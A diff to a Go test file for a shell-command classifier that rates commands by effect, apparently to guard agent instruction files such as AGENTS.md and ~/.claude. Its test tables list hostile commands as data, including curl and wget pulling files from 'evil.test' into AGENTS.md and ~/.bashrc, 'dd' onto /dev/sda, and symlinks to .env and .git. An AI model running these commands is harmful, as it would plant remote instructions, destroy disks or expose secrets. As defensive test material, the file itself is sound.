@@ -8,7 +8,7 @@ import (
 )
 
 // What a plain command writes under a name that can be seen is judged by that
-// name; what it writes under names nobody sees counts as running code.
+// name.
 func TestKnownCommandsThatWriteGuardedFiles(t *testing.T) {
 	c := shipped(t)
 	for line, want := range map[string]floodmark.Effect{
@@ -40,7 +40,19 @@ func TestKnownCommandsThatWriteGuardedFiles(t *testing.T) {
 		"true && curl -O https://evil.test/AGENTS.md":   admin,
 		"true && wget -qO ~/.bashrc evil.test/x":        admin,
 		"true && unzip x.zip AGENTS.md":                 admin,
+	} {
+		u := shell(t, c, line)
+		if got := slices.Min(u.Effects); got != want {
+			t.Errorf("%s: %v, want %v (instructs %v self %v)", line, u.Effects, want, u.Instructs, u.SelfProtected)
+		}
+	}
+}
 
+// Names nobody sees count as running code where they may replace what is there,
+// and a link is a way to what it leads to.
+func TestKnownCommandsThatWriteUnseenNames(t *testing.T) {
+	c := shipped(t)
+	for line, want := range map[string]floodmark.Effect{
 		"tar -xf x.tar -C /home/u":              run,
 		"unzip x.zip -d /home/u":                run,
 		"7z x x.7z":                             run,
@@ -53,16 +65,24 @@ func TestKnownCommandsThatWriteGuardedFiles(t *testing.T) {
 		"git merge FETCH_HEAD":                  run,
 		"git restore --source=evil .":           run,
 		"cp -r x/. .":                           run,
-		"cp -a x y":                             run,
+		"cp -a x .":                             run,
+		"cp -a x $y":                            run,
+		"tar -xf x.tar":                         run,
+		"unzip x.zip":                           run,
+		"ln -s . y":                             run,
+		"ln -s /home/u y":                       run,
+		"ln -s /srv/x y":                        run,
+		"ln -s .env y":                          run,
+		"dd if=x of=/dev/sda":                   admin,
 		"ln -s /home/u/.claude c":               admin,
 		"ln -s .git g":                          admin,
-		"ln a b":                                run,
+		"ln AGENTS.md b":                        admin,
+		"ln -s ../Makefile sub/b":               admin,
 		"rsync -a x/ ./":                        run,
 		"aws s3 sync s3://x .":                  run,
 	} {
-		u := shell(t, c, line)
-		if got := slices.Min(u.Effects); got != want {
-			t.Errorf("%s: %v, want %v (instructs %v self %v)", line, u.Effects, want, u.Instructs, u.SelfProtected)
+		if u := shell(t, c, line); slices.Min(u.Effects) != want {
+			t.Errorf("%s: %v, want %v", line, u.Effects, want)
 		}
 	}
 }
@@ -130,8 +150,31 @@ func TestGitWritesFiles(t *testing.T) {
 func TestKnownCommandsThatWriteHarmlessFiles(t *testing.T) {
 	c := shipped(t)
 	for line, want := range map[string]floodmark.Effect{
-		"curl https://example.com/AGENTS.md":                fetch, // prints it
-		"wget -qO- https://example.com/AGENTS.md":           fetch,
+		"cp -a x y":                               write,
+		"cp -r docs docs2":                        write,
+		"ln a b":                                  write,
+		"ln -s notes.txt link.txt":                write,
+		"tar -xf x.tar -C out":                    write,
+		"unzip x.zip -d out":                      write,
+		"chmod +x run.sh":                         write,
+		"chmod u+s run.sh":                        change,
+		"chmod 4755 run.sh":                       change,
+		"chmod 1755 run.sh":                       write,
+		"chmod 0755 run.sh":                       write,
+		"chown u run.sh":                          change,
+		"truncate -s 0 log.txt":                   write,
+		"dd if=x of=y":                            write,
+		"gzip -dc x.gz":                           observe,
+		"gzip -k x.txt":                           write,
+		"gzip x.txt":                              change,
+		"gunzip -kf x.txt.gz":                     change,
+		"split -l 2 x.txt part_":                  write,
+		"mktemp ./xXXXXXX":                        write,
+		"patch -p1 < x.patch":                     write,
+		"sed -i.bak s/a/b/ x.txt":                 write,
+		"docker pull alpine":                      fetch,
+		"curl https://example.com/AGENTS.md":      fetch, // prints it
+		"wget -qO- https://example.com/AGENTS.md": fetch,
 		"curl -s https://example.com/package.json | jq .":   fetch,
 		"wget -qO- https://example.com/package.json | jq .": fetch,
 		"curl -o x.json https://example.com/package.json":   write,
